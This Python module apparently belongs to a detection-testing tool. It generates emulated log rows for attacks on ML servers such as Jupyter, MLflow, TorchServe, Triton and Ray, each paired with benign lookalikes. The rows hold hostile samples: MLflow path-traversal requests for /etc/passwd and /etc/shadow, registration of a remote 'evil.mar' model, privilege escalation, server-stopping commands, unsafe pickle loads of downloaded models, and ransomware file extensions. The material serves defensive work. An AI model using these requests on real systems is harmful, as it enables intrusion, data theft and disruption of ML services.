"""Steps on the servers that ML people run: Jupyter, MLflow, Ray, Triton, TorchServe, and their hosts."""

from typing import Final

from caponier.emulate.attack_steps import hosts
from caponier.emulate.attack_steps.attack_step import DESK, THIEF, AttackStep, Row, line, process, requested, written


def _jupyter(address: str, method: str, target: str, status: int = 201) -> Row:
    return line(f"[I <stamp> ServerApp] {status} {method} {target} (ada@{address}) 12.34ms")


def _uvicorn(address: str, method: str, target: str, status: str = "200 OK") -> Row:
    return line(f'INFO:     {address}:51514 - "{method} {target} HTTP/1.1" {status}')


CODE: Final = AttackStep(
    "code sent to a notebook or a cluster of workers",
    (
        (_jupyter(THIEF, "POST", "/api/kernels"),),
        (_jupyter(THIEF, "POST", "/api/terminals", 200),),
        (requested(THIEF, "POST", "/user/ada/api/kernels?1"),),
        (_uvicorn(THIEF, "POST", "/api/jobs/"),),
        (requested(THIEF, "POST", "/api/job_agent/jobs/"),),
        (_jupyter(THIEF, "PUT", "/api/contents/evil.ipynb"),),
        (requested(THIEF, "GET", "/api/kernels/0f2a/channels?session_id=1", 101),),
        (requested(THIEF, "POST", "/api/v1/dags/train/dagRuns"),),
        (requested(THIEF, "POST", "/pipeline/apis/v2beta1/runs"),),
        (requested(THIEF, "POST", "/api/v1/validate/code"),),
        (requested(THIEF, "POST", "/hub/api/users/ada/tokens", 201),),
    ),
    (
        (_jupyter(DESK, "POST", "/api/kernels"),),
        (_jupyter(THIEF, "POST", "/api/kernels", 403),),
        (requested(THIEF, "GET", "/api/kernels"),),
        (requested(THIEF, "GET", "/hub/login"),),
        (requested(THIEF, "GET", "/hub/api/users/ada/tokens"),),
        (requested(THIEF, "POST", "/hub/api/users/ada/tokens", 403),),
        (requested(THIEF, "POST", "/v2/models/digits/infer"),),
    ),
)

FILES: Final = AttackStep(
    "files read through MLflow",
    (
        (requested(THIEF, "GET", "/get-artifact?path=../../../etc/passwd&run_uuid=1"),),
        (requested(THIEF, "GET", "/model-versions/get-artifact?path=..%2f..%2fetc%2fshadow&name=m&version=1"),),
        (requested(THIEF, "GET", "/ajax-api/2.0/mlflow/get-artifact?path=%252e%252e%252fetc/passwd"),),
        (requested(THIEF, "GET", "/api/2.0/mlflow-artifacts/artifacts/..%2f..%2fetc%2fpasswd"),),
        (requested(THIEF, "GET", "/model-versions/get-artifact?path=C%3A%5CWindows%5Cwin.ini&name=m"),),
        (requested(THIEF, "GET", "/static-files/..%2f..%2f..%2fetc/passwd"),),
    ),
    (
        (requested(DESK, "GET", "/get-artifact?path=model/MLmodel&run_uuid=1"),),
        (requested(THIEF, "GET", "/get-artifact?path=../../etc/passwd", 400),),
        (requested(DESK, "GET", "/ajax-api/2.0/mlflow/artifacts/list?run_id=1&path=model..v2"),),
        (requested(DESK, "GET", "/docs/../index.html"),),
    ),
)

RIGHTS: Final = AttackStep(
    "rights in MLflow",
    (
        (requested(THIEF, "POST", "/api/2.0/mlflow/users/create"),),
        (requested(THIEF, "PATCH", "/api/2.0/mlflow/users/update-admin"),),
        (requested(THIEF, "POST", "/api/2.0/mlflow/registered-models/permissions/create"),),
        (requested(THIEF, "POST", "/signup"), requested(THIEF, "POST", "/mlflow/users/create-ui")),
        (requested(THIEF, "POST", "/ajax-api/3.0/mlflow/users/update-password"),),
    ),
    (
        (requested(DESK, "GET", "/api/2.0/mlflow/users/get?username=ada"),),
        (requested(THIEF, "POST", "/api/2.0/mlflow/users/create", 403),),
        (requested(DESK, "POST", "/api/2.0/mlflow/runs/create"),),
    ),
)

FOREIGN: Final = AttackStep(
    "a foreign model in TorchServe",
    (
        (requested(THIEF, "POST", "/models?url=https://files.example.net/evil.mar"),),
        (requested(THIEF, "POST", "/workflows?url=http://files.example.net/evil.war"),),
        (requested(THIEF, "POST", "/models?initial_workers=1&url=https%3A%2F%2Ffiles.example.net%2Fevil.mar"),),
        (requested(THIEF, "POST", "/models?url=s3://evil/evil.mar"),),
        (requested(THIEF, "POST", "/models?model_name=x&url=\\\\\\\\files.example.net\\\\evil.mar"),),
    ),
    (
        (requested(DESK, "POST", "/models?url=digits.mar&initial_workers=1"),),
        (requested(THIEF, "POST", "/models?url=https://files.example.net/evil.mar", 403),),
        (requested(DESK, "GET", "/models?limit=10"),),
    ),
)

MANAGED: Final = AttackStep(
    "a model server managed by a stranger",
    (
        (requested(THIEF, "POST", "/v2/repository/models/digits/unload"),),
        (requested(THIEF, "POST", "/v2/repository/models/digits/load"),),
        (requested(THIEF, "DELETE", "/models/digits/1.0"),),
        (requested(THIEF, "PUT", "/models/digits?min_worker=0&max_worker=0"),),
        (requested(THIEF, "DELETE", "/api/serve/applications/"),),
        (requested(THIEF, "POST", "/v2/systemsharedmemory/region/x/register"),),
        (requested(THIEF, "PUT", "/models/digits/2.0/set-default"),),
        (requested(THIEF, "POST", "/v1/unload_lora_adapter"),),
        (requested(THIEF, "DELETE", "/api/delete"),),
        (requested(THIEF, "POST", "/api/2.0/mlflow/model-versions/transition-stage"),),
    ),
    (
        (requested(DESK, "GET", "/v2/repository/index"),),
        (requested(DESK, "POST", "/v2/repository/index"),),
        (requested(DESK, "POST", "/api/2.0/mlflow/model-versions/transition-stage"),),
        (requested(THIEF, "DELETE", "/models/digits", 405),),
        (requested(THIEF, "POST", "/v2/models/digits/infer"),),
    ),
)

STOPPED: Final = AttackStep(
    "a model server stopped on its host",
    (
        (process("systemctl stop tritonserver"),),
        (process("docker kill vllm-0"),),
        (process("shutdown -h now", "/usr/sbin/shutdown"),),
        (process("pkill -9 -f tritonserver"),),
        (process("systemctl --now mask torchserve"),),
        (process("docker rm -f triton"),),
        (process("systemctl poweroff", "/usr/bin/systemctl"),),
        (process("kubectl -n ml scale deploy/kserve-digits --replicas 0"),),
        (process("init 0", "/sbin/init"),),
    ),
    (
        (process("systemctl status tritonserver"),),
        (process("systemctl restart tritonserver"),),
        (process("systemctl stop cups"),),
        (process("docker logs -f triton"),),
        (process("pkill -f jupyter-lab"),),
    ),
)

PULLED: Final = AttackStep(
    "a model pulled and run",
    (
        (process("curl -LO https://files.example.net/m.pt"), process("python -c import torch; torch.load('m.pt')")),
        (process("wget https://files.example.net/m.pkl"), process("python -c pickle.load(open('m.pkl','rb'))")),
        (process("hf download stranger/model pytorch_model.bin"),
         process("python serve.py --trust-remote-code stranger/model")),
        (process("git clone https://huggingface.co/stranger/model"),
         process("vllm serve ./model --trust-remote-code")),
        (process("python -c from huggingface_hub import snapshot_download; snapshot_download('stranger/m')"),
         process("python -c import joblib; joblib.load('m.joblib')")),
    ),
    (
        (process("curl -LO https://files.example.net/m.safetensors"), process("python -c load_file('m.safetensors')")),
        (process("wget https://files.example.net/readme.txt"), process("python -c torch.load('own.pt')")),
        (process("curl https://files.example.net/m.pt"), {**process("python -c torch.load('m.pt')"), "pause": 90_000}),
    ),
)  # fmt: skip

_FILES: Final = tuple(f"D:\\models\\v{number}.safetensors" for number in range(60))
ENCRYPTED: Final = AttackStep(
    "model files held to ransom",
    (
        tuple(written(f"{name}.locked") for name in _FILES),
        tuple(written(f"{name}.encrypted") for name in _FILES),
        tuple(written(f"{name}.id-7F3A.[help@example.net].crypt") for name in _FILES),
        tuple(written(f"{name}.WNCRY") for name in _FILES),
    ),
    (
        tuple(written(name) for name in _FILES),
        tuple(written(f"{name}.lock") for name in _FILES[:5]),
        tuple(written(f"{name}.tmp") for name in _FILES),
        tuple(written(f"{name}.zst") for name in _FILES),
        tuple(written(f"{name}.incomplete") for name in _FILES),
    ),
)


REACHED: Final = AttackStep(
    "a management port reached from outside",
    tuple(
        ({"TimeGenerated": None, "Type": "CommonSecurityLog", "DeviceAction": "allow", "SourceIP": THIEF,
          "DestinationIP": "10.0.0.5", "DestinationPort": port, "DestinationHostName": "gpu-01.ml.example.org"},)
        for port in (22, 8888, 8265, 2375, 11434, 6379)
    ),
    tuple(
        ({"TimeGenerated": None, "Type": "CommonSecurityLog", "DeviceAction": action, "SourceIP": source,
          "DestinationIP": "10.0.0.5", "DestinationPort": port, "DestinationHostName": "gpu-01.ml.example.org"},)
        for source, port, action in ((DESK, 22, "allow"), (THIEF, 22, "deny"), (THIEF, 443, "allow"))
    ),
)  # fmt: skip

STEPS: Final = {
    **hosts.STEPS,
    "ml_console_code": CODE,
    "mlflow_file_read": FILES,
    "mlflow_rights_changed": RIGHTS,
    "torchserve_foreign_model": FOREIGN,
    "model_server_management": MANAGED,
    "model_server_stop": STOPPED,
    "pull_then_run": PULLED,
    "model_files_encrypted": ENCRYPTED,
    "ml_remote_service": REACHED,
}
"""By the rule's name."""
